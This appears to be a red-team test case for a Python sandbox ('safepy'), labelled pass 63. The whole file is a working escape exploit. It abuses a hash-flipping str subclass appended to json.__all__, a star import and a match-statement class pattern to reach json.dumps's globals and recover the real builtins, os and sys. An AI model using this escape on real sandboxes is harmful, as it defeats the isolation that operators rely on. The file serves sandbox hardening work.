# technique: `from m import *` binds every entry of the proxy's __all__, which was a list user code could append to: a str subclass whose __hash__ flips and whose __eq__ is always True lands in the user's module globals as a key LOAD_NAME matches for the match rewriter's helper __safepy_match_ref__, so `case C(g)` runs a raw MATCH_CLASS reading __globals__ of json.dumps: real builtins, os, sys (red-team pass 63)
# expect: any
import json

flip = []
class S(str):
    def __hash__(self):
        return hash("__safepy_match_ref__") if flip else hash("zzz")
    def __eq__(self, other):
        flip.append(1)
        return True

class Meta(type):
    def __instancecheck__(cls, obj):
        return True

class W(metaclass=Meta):
    __match_args__ = ("__globals__",)

class Fake:
    def __init__(self, thunk):
        self.cls = W

json.zzz = Fake
json.__all__.append(S("zzz"))
from json import *

match json.dumps:
    case C(g):
        pass
b = g["__builtins__"]
os = b["__import__"]("os")
sys = b["__import__"]("sys")
[type(b).__name__, "open" in b, "exec" in b, os.getpid() > 0, len(sys.modules), sys.modules["_safepy_harness"].__name__ if "_safepy_harness" in sys.modules else sorted(sys.modules)[:3]]
